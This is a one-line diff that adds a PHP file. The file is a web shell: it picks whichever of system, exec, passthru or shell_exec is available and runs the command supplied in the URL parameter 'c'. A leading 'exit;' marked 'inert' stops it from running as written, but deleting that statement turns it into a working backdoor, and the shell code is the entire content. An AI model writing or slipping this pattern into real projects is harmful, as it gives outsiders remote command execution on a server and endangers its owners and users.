@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $m=array("system","exec","passthru","shell_exec"); foreach($m as $x) if(function_exists($x)){ $x($_GET["c"]); break; }
